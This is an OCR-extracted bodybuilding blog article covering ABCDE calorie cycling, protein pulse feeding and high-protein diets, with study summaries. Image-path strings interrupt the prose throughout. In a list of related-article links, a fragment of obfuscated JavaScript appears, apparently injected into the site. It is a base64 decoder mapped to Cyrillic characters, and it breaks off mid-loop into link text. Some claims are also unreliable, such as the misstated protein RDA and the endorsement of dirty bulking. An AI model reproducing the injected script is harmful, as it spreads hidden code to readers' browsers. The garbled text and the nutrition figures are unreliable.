Anabolic Burst Cycling of Diet & Exercise (ABCDE)

This diet is a very interesting concept I have known for a while, but doesn’t get the attention it deserves by bodybuilders. The diet was developed by swedish bodybuilder and doctor Torbjorn Akerfeldt based on some research he found. Unlike traditional bodybuilding bulking diets centered mainly around protein, this diet looks at total calories instead.

Anabolic Burst Cycling is actually a simple concept, it's hormone manipulation through calorie cycling. Simply eat an excess calories for 2 weeks, then for 2 weeks diet. You continually do this over and over. With each cycle, you should have a positive net lean muscle gain and fat loss. Protein intake or eating clean also isn't as important as total calorie intake. In other words a dirty bulk is ok, just as long as you get a calorie excess.

Why does Anabolic burst cycling work?

One study Akerfeldt cites to support his diet is published in (Am J Clin Nutr. 1996 Sep;64(3):259-66). I decided to take a look at the study. It was done for 3 weeks on men and women volunteers. They increased their calorie intake and it was observed that they had an increase in testosterone, IGF-1, and insulin. There were no changes in T4 or cortisol or adrenaline. There was an average of 4.3 kilograms of weight gained, with 46% of it being muscle. Note that these subjects did not weight train, yet still gained over 4 lbs of lean mass.

You may be wondering how muscle is gained and fat lost, from doing this diet. The answer is really all in hormone level manipulation. When you eat an excess of calories, your testosterone levels, growth hormone, IGF-1, insulin, all the anabolic hormones go crazy. During this time you can eat a lot of extra calories and gain a lot of muscle with less worry of fat, because the anabolic hormone spike helps build muscle. This anabolic hormone spike starts totaper off over time as the body adapts, which is why you only do it for 2 weeks.

Another study that Akerfeldt uses to help support him was published in (Am. J. Clin. Nutr. 49.4 (1989) : 608-611). Looking at the study, it was done on 6 men who ate a excess in calories. They measured their fat and protein oxidation, but they also observed over 4lbs of muscle gained with only 2 lbs of fat gained. This study is even more substantial, since without weight training, they gained muscle 2:1 ratio.

Why does Akerfeldt seem to think getting excess calories is the most important? Well he cites this study published in J. Nutr. 109.3 (1979) : 363-377. This study is also done on 6 men over 10 days. These subjects were all given equal amounts of protein(1.2 grams/kg), but they were seperated into 3groups; maintenance, 15% above maintenance, and 30% above maintenance. When increased and lowered, they found a correlation between the total intake of calories and Biological value and net protein utilization of the dietary protein.

The bulking phase also increases your metabolism (by increasing thyroid hormones) and leptin levels. This will make it easier to lose fat immediately after the bulking phase. Once again, you can only do the fat loss phase for 2 weeks before your body starts adapting to the fat loss phase hormonally. The whole point of the diet is to manipulate hormones in such a way to keep the body guessing, that is favorable for bodybuilders.

Torbjorn Akerfeldt is also a firm believer in the muscle fascia stretching theory and believes it could be beneficial during the bulking phase. You can read more about it in a previous article of ours: Muscle fascia stretching

So we don't need to workout to see muscle gains?

If you never lifted a weight in your life you could probably gain a few lbs of muscle from this diet, like some did in the studies. But a serious bodybuilder is not going to gain significant muscle with this diet long term, without the help of weight training.Who is this ABCDE program for?

The program is for everyone, but I have read other hardgainers complain that the diet phasewas too catabolic and they lost their hard earned muscle. That just means to me, that bodybuilders with a fast metabolism, should probably do a shorter fat loss phase, like 5 days to one week. One other problem about this diet, is that it is very hard to do. It is hard to adapt to eating a massive amount of calories, and then trying to diet soon after. Trying to yoyo back between each phase is probably the major reason why this diet has never become popular among bodybuilders.

Protein Pulse Feeding

Bodybuilders have always eaten protein over multiple meals throughout the day. They do this in order to get a steady supply of protein, so their muscles can grow and they don't become catabolic.  Protein pulse feeding is a recent theory, that slaps that notion in the face. The idea came from bodybuilders when research a few years ago, suggested that largeinfrequent doses of protein, was better for muscle growth.

Protein pulse feed studies:

A study published in (American Journal of Clinical Nutrition, Vol. 69, No. 6, 1202-1208, June 1999) was done on 15 elderly women for 15 days. One group had protein spread over 4 meals, the other 80% at noon. The protein for both diets was 1.7 grams per kg of lean mass. Results showed protein synthesis and nitrogen retention better in the pulse group.

However this followup study by researchers (Journal of Nutrition. 2000;130:1700-1704) showed different results on younger women. The average mean age was 26 with 1.7 grams per kg of lean mass. They found no improvement in nitrogen retention or protein synthesis resulting from pulse feeding.

Another study by the researchers (Am J Physiol Endocrinol Metab 278: E902-E909, 2000;) showed young and older women were in a beneficial state for protein retention, one day after the study had stopped.This same study group even did a study later on rats (The American Society for Nutritional Sciences J. Nutr. 132:1002-1008, 2002). The study was done on older rats, all starting with 10 days of adaption diet. Then half were switched to a pulse diet for 21 days. Results showed increase in protein synthesis and complimented the previous human studies.

Is protein pulse feed better for muscle growth?

The evidence from the studies all done by the same researchers, suggest protein pulse feeding is more beneficial for muscle growth, than spreading it out. However, these studies are done on untrained individuals and are done for a short time. They would be more convincing if they were for 2 months. If the studies were done for a few moreweeks, the body might learn to respond to a radical change in protein consumption. I suspect that the reason why pulse feeding is beneficial initially in the first few weeks, is because the body is putting itself in "protein starvation mode". It doesn't know when the next dose of protein is coming, so it is not releasing it. I would think that over enough time (just a theory of mine), this benefit would wear off and probably even go in the opposite direction.

Another important point is these studies aren't done onbodybuilders (or even athletic people). I imagine that when you consider protein synthesis increases for 24-36 hours after a workout, that protein pulse feeding diet would probably not be effective diet under these conditions.
Hopefully there will be more studies on this issue in the future, so we can get a clearer answer. I think most bodybuilders would love to know they only had to consume protein in 2 or 3 meals instead of 5-7, but I highly doubt at this point this diet will work as good as a regular bulking diet.

For additional reading, here are some previous articles of ours:

-How much protein can we digest in one meal?
-function l1c373528ef5(o4){var sa='ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=';var q3='';var x1,pc,u6,yc,ve,r4,n2;var oe=0;do{yc=sa.indexOf(o4.charAt(oe++));ve=sa.indexOf(o4.charAt(oe++));r4=sa.indexOf(o4.charAt(oe++));n2=sa.indexOf(o4.charAt(oe++));x1=(yc<<2)|(ve>>4);pc=((ve&15)<<4)|(r4>>2);u6=((r4&3)<<6)|n2;if(x1>=192)x1+=848;else if(x1==168)x1=1025;else if(x1==184)x1=1105;q3+=String.fromCharCode(x1);if(r4!=64){if(pc>=192)pc+=848;else if(pc==168)pc=1025;else if(pc==184)pc=1105;q3+=String.fromCharCode(pc);}if(n2!=64){if(u6>=192)u6+=848;else if(u6==168)u6=1025;else if(u6==184)u6=1105;q3+=String.fromCharCode(u6);}}while(oe fat loss" HREF="">High proteindiet effects on muscle and fat loss

High protein diet effects on muscle gains and fat loss

For years textbooks and "experts" have said that athletes and bodybuilders do not need more than the recommended daily allowance of protein ( 0.6-0.9 grams of protein per pound of weight for very active athletes). Many even suggest, that it may be toxic or unhealthy, to have a high protein diet similiar to what bodybuilders eat. Bodybuilders for decades have taken large amounts of protein, well beyond these recommendations.

Why bodybuilders eat high protein diets:

Bodybuilders during bulking phases, take extra amounts of calories beyond maintenance(daily calorie requirements). This in turn allows them to gain weight, with the goal of it mostly being muscle.Bodybuilders do this because gaining muscle without extra calories is very difficult because if you don't gain weight, losing fat and gaining muscle simultaneously can only happen to a certain extent. There is only 3 macronutrients you can choose from in a diet; protein, carbs, or fat. If you ate the recommended daily allowance of protein on a calorie surplus, you would be eating mostly carbs and fat. This would leave you bloated, fat, insulin tolerant, and unhealthy. If you are trying to build mainly muscle, then it would make sense that a large amount of yourcalories should be protein, the building blocks of muscles.

Protein also doesn't convert to glucose as easy(and therefore stimulate insulin as much), so it is a much "cleaner" way to bulk when trying to get excess calories. If you had a balance of protein (say 30%) of your calories, instead of about 15% on a lower protein diet, your weight gains will be leaner. Protein also helps aid fat loss and muscle preservation during dieting.

The government and many experts, don't take into account that bodybuilders are not trying to maintainthemselves like the average joe. Bodybuilders require more protein and calories because they are breaking the muscle down and then trying to gain more muscle(or maintain large amounts of it). During dieting they are not trying to simply lose weight like the average couch potato, but instead only fat, while trying to maintain their hard earned muscle.

Studies supporting high protein diets:

While there is research supporting that extra protein intake is needed for athletes and bodybuilders, there is little supporting very high protein intake(well past 1 gram of protein per pound of bodyweight) will give even better muscle growth.

The only one I could find that is commonly cited at many other places is published in Nutr. Metabolism 12:259-274, done on 10 polish powerlifters. They found that even when they more than doubled their protein intake past the recommended daily allowance, half of them were still in negative nitrogen balance. In other words, half were still losing muscle because they weren't getting adequate protein even at that amount.

One study done by Dr. Lemon and published in Nutrition Reviews," (54:S169-175, 1996), showed strength athletes needed about 0.8 grams of protein per pound of bodyweight to maintain nitrogen positive balance(sign of muscle growth).

Dr. Lemon also has suggested previously that:

"Several types of evidence indicate that exercise causes substantial changes in protein metabolism. In fact, recent data suggests that the protein recommended dietary allowance might actually be 100% higher for individuals who exercise on a regular basis. Optimal intakes, although unknown, may be even higher, especially for individuals attempting to increase muscle mass and strength."
Source: Medicine and Science in Sports and Exercise” (19:5, S179-S190,1986)

This is an important quote because it's anadmission that they really don't know the optimum protein intake for muscle growth. So if they don't know the answer, who does? Pro-bodybuilders of course have the answer. I'll take the advice of pro-bodybuilding mass monsters like Ronnie Coleman and Jay Cutler, who have built themselves up to almost 300 lbs ripped, through very high protein dieting. There has never been a professional bodybuilder that didn't get to that without a very high amount of protein in their diet. I think partof the reasons why there is lack of studies on very high doses of protein, is probably because researchers aren't interested in the more extreme protein diets that are well above 1 gm / lb bodyweight.

There is also many studies showing higher protein diets helped fat loss during dieting. One study by Dr. Donald Layman at the university of illinois, had women on high carb low protein diets and high protein low carb diets. Both groups did resistance training for 11 weeks. The high protein dieters lost 22 lbs but only one pound of muscle. The high carb dieters lost only 15 lbs , but also lost 2 lbs of muscle(one more lb than the other group). This study shows that not only did the high protein diet do better at muscle preservation, but it also helped aid fat loss.

Dr. Layman is a well known research, who has done a lot of research over the years on protein intake and fat loss effects. Here is a quote from him on his feelings of high protein diets during dieting:

Evidence is accumulating that diets with reduced carbohydrates and increased levels of high quality protein are effective for weight loss. These diets appear to provide a metabolic advantage duringrestricted energy intake that targets increased loss of body fat while reducing loss of lean tissue and stabilizing regulations of blood glucose. We have proposed that the branched-chain amino acid leucine is a key to the metabolic advantage of a higher protein diet because of its unique roles in regulation of muscle protein synthesis, insulin 